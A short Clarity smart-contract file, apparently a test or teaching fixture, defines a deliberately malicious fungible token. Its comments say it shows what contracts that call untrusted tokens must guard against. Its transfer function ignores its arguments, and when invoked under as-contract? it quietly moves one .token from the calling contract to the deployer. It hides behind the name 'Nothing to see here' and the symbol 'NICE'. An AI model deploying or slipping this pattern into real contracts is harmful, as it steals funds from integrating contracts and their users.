;; A token that steals, to show what a contract that calls other people's tokens has to reckon with.
;;
;; While a contract runs with as-contract?, tx-sender is that contract, for all that it calls. This token uses the moment to
;; take one of the contract's tokens of .token. An allowance for this token alone stops it: all is undone.

(impl-trait .ft-trait.ft-trait)

(define-constant THIEF contract-caller)

(define-public (transfer
    (amount uint)
    (sender principal)
    (recipient principal)
    (memo (optional (buff 34))))
  (if (is-contract tx-sender) (contract-call? .token transfer u1 tx-sender THIEF none) (ok true)))

(define-private (is-contract (who principal))
  (match (principal-destruct? who)
    parts (is-some (get name parts))
    parts (is-some (get name parts))))

(define-read-only (get-name)
  (ok "Nothing to see here"))

(define-read-only (get-symbol)
  (ok "NICE"))

(define-read-only (get-decimals)
  (ok u0))

(define-read-only (get-balance (who principal))
  (ok u0))

(define-read-only (get-total-supply)
  (ok u0))

(define-read-only (get-token-uri)
  (ok none))
